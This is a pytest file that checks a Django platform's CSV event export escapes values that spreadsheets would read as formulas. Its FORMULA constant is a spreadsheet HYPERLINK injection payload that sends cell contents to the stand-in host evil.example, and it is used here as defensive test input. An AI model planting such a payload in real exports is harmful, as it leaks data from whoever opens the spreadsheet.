"""Exports never hand a spreadsheet a formula: names sent by boxes or typed by operators stay text."""
import csv
import io

import pytest
from django.utils import timezone

from cloudplatform.spreadsheet import safe_cell
from events.models import Event

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_become_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Obama", "", 0.93, -1, None, "a=b"])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_events_export_neutralises_a_box_sent_name(client, admin_user, make_box):
    box = make_box("gate")
    now = timezone.now()
    Event.objects.create(box=box, dedup_key="k1", occurred_at=now, timestamp_ms=int(now.timestamp() * 1000),
                         score=0.9, identity_id="-1", identity_name=FORMULA, group_name="@group")
    client.force_login(admin_user)
    body = b"".join(client.get("/events/export.csv").streaming_content).decode()
    header, row = list(csv.reader(io.StringIO(body)))
    cells = dict(zip(header, row, strict=True))
    assert [value for value in row if value and value[0] in "=+-@\t\r"] == []
    assert "'" + FORMULA in row and "'@group" in row and "'-1" in row, cells
